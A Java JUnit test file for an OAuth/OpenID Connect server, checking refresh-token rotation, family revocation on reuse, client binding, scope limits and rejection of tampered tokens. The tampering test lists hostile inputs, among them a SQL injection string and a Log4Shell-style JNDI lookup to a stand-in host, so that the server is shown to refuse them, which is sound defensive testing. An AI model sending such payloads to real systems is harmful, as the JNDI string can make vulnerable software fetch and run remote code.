package dev.gatewright.token;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatewright.Answer;
import dev.gatewright.Browser;
import dev.gatewright.ClientBuilder;
import dev.gatewright.CodeFlow;
import dev.gatewright.Doors;
import dev.gatewright.Http;
import dev.gatewright.TestClient;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.Tokens;
import dev.gatewright.user.Role;
import dev.gatewright.user.User;
import dev.gatewright.user.Users;
import dev.gatewright.user.Verified;
import java.net.http.HttpResponse;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Refresh tokens: each works once, and what was used twice is taken for stolen (RFC 6749 §6, RFC
 * 9700 §4.14).
 */
class RefreshTest {
  private static final String OFFLINE = "openid user:read offline_access";

  private static TestServer server;
  private static TestClient app;
  private static TestClient web;
  private static User user;
  private static Browser loggedIn;
  private static Doors doors;

  @BeforeAll
  static void start() {
    server = TestServer.start();
    user = new TestUsers(server).user();
    app = ClientBuilder.nativeApp(server).register();
    web = ClientBuilder.web(server).register();
    loggedIn = new Browser(server).logIn(user);
    doors = new Doors(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void refreshTokenIsRotated() {
    for (TestClient client : new TestClient[] {app, web}) {
      Tokens first = granted(client);
      Tokens second = Tokens.of(client.refresh(first.refresh()));
      Tokens third = Tokens.of(client.refresh(second.refresh()));

      assertNotEquals(first.refresh(), second.refresh());
      assertNotEquals(second.refresh(), third.refresh());
      doors.assertOpenTo(third.access());
    }
  }

  /** RFC 9700 §4.14.2, OAuth 2.1 §4.3.1: the whole family ends, whoever holds it. */
  @Test
  void reusedRefreshTokenRevokesTheTokenFamily() {
    for (TestClient client : new TestClient[] {app, web}) {
      Tokens first = granted(client);
      Tokens second = Tokens.of(client.refresh(first.refresh()));
      Tokens third = Tokens.of(client.refresh(second.refresh()));

      assertInvalidGrant(client.refresh(first.refresh()));
      assertInvalidGrant(client.refresh(third.refresh()));
      doors.assertClosedTo(first.access());
      doors.assertClosedTo(second.access());
      doors.assertClosedTo(third.access());
    }
  }

  /** One family's end is not another's. */
  @Test
  void reuseLeavesOtherGrantsOfTheUserAlone() {
    Tokens stolen = granted(app);
    Tokens other = granted(app);
    app.refresh(stolen.refresh());

    assertInvalidGrant(app.refresh(stolen.refresh()));
    doors.assertOpenTo(other.access());
    assertEquals(200, app.refresh(other.refresh()).statusCode());
  }

  /** RFC 6749 §6, §10.4: bound to its client, and a foreign attempt does not end it. */
  @Test
  void refreshTokenOfAnotherClientIsRefused() {
    Tokens tokens = granted(app);
    TestClient publicThief = ClientBuilder.nativeApp(server).register();

    assertInvalidGrant(web.refresh(tokens.refresh()));
    assertInvalidGrant(publicThief.refresh(tokens.refresh()));
    assertEquals(200, app.refresh(tokens.refresh()).statusCode());
  }

  /** RFC 6749 §6: no more than was granted; and asking does not use the token up. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "openid user:read user:write",
        "user:write",
        "openid users:read",
        "evil",
        "openid\"",
        "*"
      })
  void scopeCannotGrow(String scope) {
    Tokens tokens = granted(app);
    HttpResponse<String> response =
        app.token(
            Map.of(
                "grant_type", "refresh_token", "refresh_token", tokens.refresh(), "scope", scope));

    assertEquals("invalid_scope", Http.body(400, response).get("error").asText());
    assertEquals(200, app.refresh(tokens.refresh()).statusCode());
  }

  /** RFC 6749 §6: less may be asked for, and the grant stays what it is. */
  @Test
  void scopeCanBeNarrowed() {
    Tokens tokens = granted(app);
    Tokens narrow =
        Tokens.of(
            app.token(
                Map.of(
                    "grant_type",
                    "refresh_token",
                    "refresh_token",
                    tokens.refresh(),
                    "scope",
                    "user:read")));

    assertEquals("user:read", narrow.scope());
    assertEquals("user:read", Tokens.claims(narrow.access()).get("scope").asText());
    assertEquals(OFFLINE, Tokens.of(app.refresh(narrow.refresh())).scope());
  }

  /** Whoever is no administrator any more goes on without what only administrators may. */
  @Test
  void scopesOfARoleThatWasTakenAwayAreLeftOut() {
    User demoted = new TestUsers(server).administrator();
    TestClient console =
        ClientBuilder.nativeApp(server)
            .scope("openid user:read clients:read offline_access")
            .register();
    Tokens before =
        console
            .flow()
            .with("scope", "openid user:read clients:read offline_access")
            .tokens(demoted);
    Users users = server.bean(Users.class);
    assertTrue(users.declare(demoted, demoted.profile(), Role.USER, Verified.NOTHING).isPresent());

    Tokens after = Tokens.of(console.refresh(before.refresh()));
    assertEquals(OFFLINE, after.scope());
    doors.assertOpenTo(after.access());
    doors.assertClosedTo(before.access());
  }

  /** OpenID Connect Core §12.2: same issuer, subject, audience, and time of authentication. */
  @Test
  void subjectStaysTheSame() {
    CodeFlow flow = web.flow().with("scope", OFFLINE);
    Tokens first = Tokens.of(flow.redeem(Answer.of(flow.send(loggedIn)).value("code")));
    Browser other = new Browser(server).logIn(new TestUsers(server).user());
    other.get("/account");
    Tokens second = Tokens.of(web.refresh(first.refresh()));

    assertEquals(
        Tokens.claims(first.access()).get("sub"), Tokens.claims(second.access()).get("sub"));
    for (String claim : new String[] {"iss", "sub", "aud", "auth_time"}) {
      assertEquals(
          Tokens.claims(first.id()).get(claim), Tokens.claims(second.id()).get(claim), claim);
    }
  }

  /** Type confusion: every token is good for one thing. */
  @Test
  void tokensAreNotTakenForEachOther() {
    Tokens tokens = granted(app);

    doors.assertClosedTo(tokens.refresh());
    doors.assertClosedTo(tokens.id());
    assertInvalidGrant(app.refresh(tokens.access()));
    assertInvalidGrant(app.refresh(tokens.id()));

    CodeFlow flow = app.flow();
    String code = Answer.of(flow.send(loggedIn)).value("code");
    assertInvalidGrant(app.refresh(code));
    doors.assertClosedTo(code);
    assertInvalidGrant(flow.redeem(tokens.refresh()));
    assertInvalidGrant(flow.redeem(tokens.access()));
  }

  @Test
  void tamperedRefreshTokensAreInvalidAndDoNotHarmTheTrueOne() {
    String token = granted(app).refresh();
    for (String tampered :
        new String[] {
          token + "x",
          token.substring(1),
          token.substring(0, token.length() - 1),
          token + " ",
          token.toUpperCase(Locale.ROOT),
          token.replace("gwr_", ""),
          "gwr_",
          "*",
          "%",
          "' or '1'='1",
          "${jndi:ldap://evil.example/x}",
          "日本語",
          token.repeat(100)
        }) {
      assertInvalidGrant(app.refresh(tampered));
    }
    assertEquals(200, app.refresh(token).statusCode());
  }

  @Test
  void tokenAnswersAreNotCached() {
    HttpResponse<String> response = app.refresh(granted(app).refresh());

    assertEquals(200, response.statusCode());
    assertEquals("no-store", Http.header(response, "Cache-Control"));
  }

  /** RFC 6749 §10.4: not to be guessed. */
  @Test
  void refreshTokensAreLong() {
    assertTrue(granted(app).refresh().length() >= 40);
  }

  private static Tokens granted(TestClient client) {
    CodeFlow flow = client.flow().with("scope", OFFLINE);
    return Tokens.of(flow.redeem(Answer.of(flow.send(loggedIn)).value("code")));
  }

  private static void assertInvalidGrant(HttpResponse<String> response) {
    assertEquals("invalid_grant", Http.body(400, response).get("error").asText());
  }
}
